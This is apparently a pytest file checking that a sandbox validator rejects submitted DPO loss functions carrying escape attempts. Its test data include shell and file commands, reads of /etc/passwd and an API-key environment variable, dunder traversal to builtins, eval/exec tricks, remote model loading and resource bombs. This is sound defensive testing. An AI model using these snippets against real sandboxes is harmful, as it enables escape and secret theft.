"""Attacks the static policy must refuse before anything runs: each is a working DPO loss plus one attack."""

import pytest

from sandbox.validate import validate_source
from tests.security.attack_kit import MARGIN, RETURN, loss_source

DEFAULTS_SIGNATURE = (
    "def loss_fn(\n"
    "    policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta,\n"
    "    {default}\n"
    "):\n"
)


def with_default(default: str, body: str = "") -> str:
    """A DPO loss with one more parameter, `default` (e.g. 'calls=[0]')."""
    return DEFAULTS_SIGNATURE.format(default=default) + MARGIN + body + RETURN


# (id, source, the policy rule that must be reported)
ATTACKS = [
    # imports
    ("import-os", loss_source(header="import os"), "import"),
    (
        "import-subprocess",
        loss_source("    subprocess.run(['touch', 'CANARY'])\n", "import subprocess"),
        "import",
    ),
    (
        "import-socket",
        loss_source("    socket.create_connection(('127.0.0.1', 80))\n", "import socket"),
        "import",
    ),
    ("from-os-import-system", loss_source("    system('touch CANARY')\n", "from os import system"), "import"),
    ("import-inside-function", loss_source("    import shutil\n"), "import"),
    ("import-torch-submodule", loss_source("    import torch.utils.cpp_extension\n"), "import"),
    (
        "from-torch-import-save",
        loss_source("    torch.save(x, 'CANARY')\n", "from torch import save"),
        "import",
    ),
    ("relative-import", loss_source(header="from . import secrets"), "import"),
    ("dunder-import", loss_source("    __import__('os').system('touch CANARY')\n"), "dunder"),
    (
        "import-threading",
        loss_source("    threading.Thread(target=print).start()\n", "import threading"),
        "import",
    ),
    ("import-signal", loss_source("    signal.alarm(1)\n", "import signal"), "import"),
    ("import-ctypes", loss_source(header="import ctypes"), "import"),
    # files
    ("open-write", loss_source("    open('CANARY', 'w').write('x')\n"), "forbidden-name"),
    ("open-read", loss_source("    secret = open('/etc/passwd').read()\n"), "forbidden-name"),
    ("torch-save", loss_source("    torch.save(x, 'CANARY')\n"), "attribute"),
    ("torch-load", loss_source("    torch.load('CANARY')\n"), "attribute"),
    ("torch-from-file", loss_source("    torch.from_file('CANARY')\n"), "attribute"),
    ("numpy-tofile", loss_source("    x.detach().numpy().tofile('CANARY')\n"), "attribute"),
    ("tensor-storage", loss_source("    x.untyped_storage()\n"), "attribute"),
    # reach beyond tensor math
    ("torch-hub", loss_source("    torch.hub.load('evil/repo', 'model')\n"), "attribute"),
    ("torch-ops", loss_source("    torch.ops.load_library('CANARY')\n"), "attribute"),
    ("torch-utils", loss_source("    torch.utils.data\n"), "attribute"),
    ("torch-cuda", loss_source("    torch.cuda.init()\n"), "attribute"),
    ("torch-distributed", loss_source("    torch.distributed.init_process_group('gloo')\n"), "attribute"),
    ("torch-multiprocessing", loss_source("    torch.multiprocessing.spawn(print)\n"), "attribute"),
    ("torch-classes", loss_source("    torch.classes.load_library('CANARY')\n"), "attribute"),
    ("torch-private", loss_source("    torch._C._get_tracing_state()\n"), "dunder"),
    ("register-hook", loss_source("    x.register_hook(print)\n"), "attribute"),
    # environment
    (
        "environ-via-os-alias",
        loss_source("    key = o.environ['OPENAI_API_KEY']\n", "import os as o"),
        "import",
    ),
    ("torch-os-reach", loss_source("    key = torch.os.environ\n"), "attribute"),
    # dunder traversal to builtins
    ("subclasses", loss_source("    ().__class__.__bases__[0].__subclasses__()\n"), "dunder"),
    ("function-globals", loss_source("    (lambda: 0).__globals__['__builtins__']\n"), "dunder"),
    ("torch-builtins", loss_source("    torch.__builtins__['eval']('1')\n"), "dunder"),
    ("dunder-name", loss_source("    __builtins__['open']('CANARY', 'w')\n"), "dunder"),
    (
        "dunder-default-arg",
        "def loss_fn(a, b, c, d, beta, os=__import__('os')):\n    return a - b\n",
        "dunder",
    ),
    # eval/exec in disguise
    ("eval", loss_source("    eval('1 + 1')\n"), "forbidden-name"),
    ("exec", loss_source("    exec('import os')\n"), "forbidden-name"),
    ("compile", loss_source("    compile('import os', 'x', 'exec')\n"), "forbidden-name"),
    ("getattr-torch", loss_source("    getattr(torch, 'sa' + 've')(x, 'CANARY')\n"), "forbidden-name"),
    ("globals", loss_source("    globals()['torch']\n"), "forbidden-name"),
    ("vars", loss_source("    vars(torch)['save']\n"), "forbidden-name"),
    ("lambda-captures-eval", loss_source("    run = lambda s: eval(s)\n"), "forbidden-name"),
    ("alias-eval", loss_source("    e = eval\n"), "forbidden-name"),
    ("str-format-traversal", loss_source("    '{0.__class__}'.format(x)\n"), "string-format"),
    ("fstring-conversion", loss_source("    s = f'{x!r}'\n"), "string-format"),
    ("percent-format", loss_source("    s = '%s' % x\n"), "string-format"),
    ("type-new-class", loss_source("    type('X', (), {})\n"), "forbidden-name"),
    # monkeypatching torch or F
    ("patch-torch-exp", loss_source("    torch.exp = torch.log\n"), "assign-attribute"),
    ("patch-F-logsigmoid", loss_source("    F.logsigmoid = torch.sigmoid\n"), "assign-attribute"),
    ("patch-tensor-method", loss_source("    torch.Tensor.sum = torch.mean\n"), "assign-attribute"),
    ("rebind-torch", loss_source("    torch = None\n"), "rebind-module"),
    ("in-place-input", loss_source("    policy_chosen_logps[0] = 0.0\n"), "in-place"),
    # statements and module-level code
    ("global-statement", loss_source("    global torch\n"), "statement"),
    ("class-definition", loss_source(header="class Evil:\n    pass"), "module-level"),
    (
        "try-swallow",
        loss_source("    try:\n        pass\n    except Exception:\n        pass\n"),
        "statement",
    ),
    ("with-open", loss_source("    with x:\n        pass\n"), "statement"),
    ("decorator", "@print\n" + loss_source(), "statement"),
    ("module-level-call", loss_source(header="torch.set_num_threads(64)"), "module-level"),
    ("module-level-pow-bomb", loss_source(header="BIG = 10 ** 10 ** 10"), "module-level"),
    ("module-level-nested-pow", loss_source(header="BIG = ((9 ** 64) ** 64) ** 64"), "module-level"),
    ("huge-output", loss_source("    print('x' * 10 ** 9)\n"), "forbidden-name"),
    ("unbounded-math", loss_source("    math.factorial(10 ** 7)\n"), "attribute"),
    ("no-entry", "def not_the_loss(a, b, c, d, beta):\n    return a - b\n", "entry"),
    ("oversized-source", loss_source("    y = 0\n" * 3000), "size"),
    ("deep-nesting", loss_source("    y = " + "(" * 400 + "1" + ")" * 400 + "\n"), "syntax"),
    # issue 13: dunder names through import aliases, bare private names
    ("import-alias-dunder", loss_source(header="import torch as __builtins__"), "dunder"),
    (
        "from-import-alias-dunder",
        loss_source(header="from torch.nn import functional as __builtins__"),
        "dunder",
    ),
    ("module-alias-dunder", loss_source(header="import torch.nn.functional as __loader__"), "dunder"),
    ("math-alias-dunder-in-function", loss_source("    import math as __builtins__\n"), "dunder"),
    ("from-import-name-dunder", loss_source(header="from math import log as __import__"), "dunder"),
    ("bare-private-name", loss_source("    y = _C\n"), "private"),
    ("private-binding", loss_source("    _helper = x * 2\n"), "private"),
    ("private-import-alias", loss_source(header="import torch as _t"), "private"),
    ("private-function", loss_source(header="def _load(x):\n    return x"), "private"),
    ("private-keyword", loss_source("    y = F.softplus(x, _stacklevel=3)\n"), "dunder"),
    # issue 13: module-level annotations (evaluated, and stored in a module dict)
    ("module-annotation", loss_source(header="SCALE: float = 0.5"), "module-level"),
    ("module-annotation-expression", loss_source(header="SCALE: print(1) = 0.5"), "module-level"),
    ("module-bare-annotation", loss_source(header="SCALE: torch.save"), "module-level"),
    # issue 13: the six ways to write into the caller's tensors
    ("augassign-argument", loss_source("    policy_chosen_logps += 1.0\n"), "in-place"),
    ("augassign-alias", loss_source("    y = policy_chosen_logps\n    y *= 0\n"), "in-place"),
    ("augassign-view", loss_source("    y = policy_chosen_logps.view(-1)\n    y -= 1\n"), "in-place"),
    ("augassign-float-alias", loss_source("    y = policy_chosen_logps.float()\n    y += 1\n"), "in-place"),
    ("augassign-detach-alias", loss_source("    y = policy_chosen_logps.detach()\n    y += 1\n"), "in-place"),
    ("augassign-or-alias", loss_source("    y = policy_chosen_logps or x\n    y += 1\n"), "in-place"),
    ("alias-slice-assignment", loss_source("    y = policy_chosen_logps\n    y[:] = 0\n"), "in-place"),
    ("chained-subscript-assignment", loss_source("    policy_chosen_logps[:][0] = 0\n"), "in-place"),
    ("subscript-augassign", loss_source("    policy_rejected_logps[0:2] += 1\n"), "in-place"),
    ("out-keyword", loss_source("    torch.add(x, 1, out=policy_chosen_logps)\n"), "in-place"),
    ("out-resize", loss_source("    torch.cat([x, x], out=policy_chosen_logps)\n"), "in-place"),
    ("detach-write", loss_source("    policy_chosen_logps.detach().zero_()\n"), "attribute"),
    ("detach-slice-write", loss_source("    policy_chosen_logps.detach()[0] = 0.0\n"), "in-place"),
    ("inplace-keyword", loss_source("    y = F.relu(x, inplace=True)\n"), "in-place"),
    ("inplace-method", loss_source("    policy_chosen_logps.add_(1)\n"), "attribute"),
    # issue 13: state kept across calls
    ("mutable-default-counter", with_default("calls=[0]", "    calls[0] = calls[0] + 1\n"), "default"),
    ("dict-default", with_default("state={}"), "default"),
    ("tensor-default", with_default("w=torch.ones_like"), "default"),
    ("call-default", with_default("scale=abs(-1)"), "default"),
    # issue 13: global torch state and grad-mode sleepers
    ("set-grad-enabled", loss_source("    torch.set_grad_enabled(False)\n"), "attribute"),
    ("set-default-dtype", loss_source("    torch.set_default_dtype(torch.float64)\n"), "attribute"),
    ("set-num-threads", loss_source("    torch.set_num_threads(64)\n"), "attribute"),
    ("module-level-seed", loss_source(header="torch.manual_seed(0)"), "module-level"),
    ("no-grad-block", loss_source("    with torch.no_grad():\n        x = x * 0\n"), "statement"),
    (
        "is-grad-enabled-sleeper",
        loss_source("    if not torch.is_grad_enabled():\n        x = x * 0\n"),
        "attribute",
    ),
    (
        "requires-grad-sleeper",
        loss_source("    if not policy_chosen_logps.requires_grad:\n        x = x * 0\n"),
        "attribute",
    ),
    ("item-sleeper", loss_source("    if x.sum().item() == 0:\n        x = -x\n"), "attribute"),
]


def test_there_are_enough_policy_attacks():
    assert len(ATTACKS) >= 40


@pytest.mark.parametrize(("source", "rule"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_policy_refuses(attack_pool, canary_dir, source, rule):
    result = validate_source(source.replace("CANARY", str(canary_dir / "pwned")), pool=attack_pool)
    assert not result.valid
    assert result.stage == "policy"
    assert f"[{rule}]" in result.error
    assert result.fingerprint is None
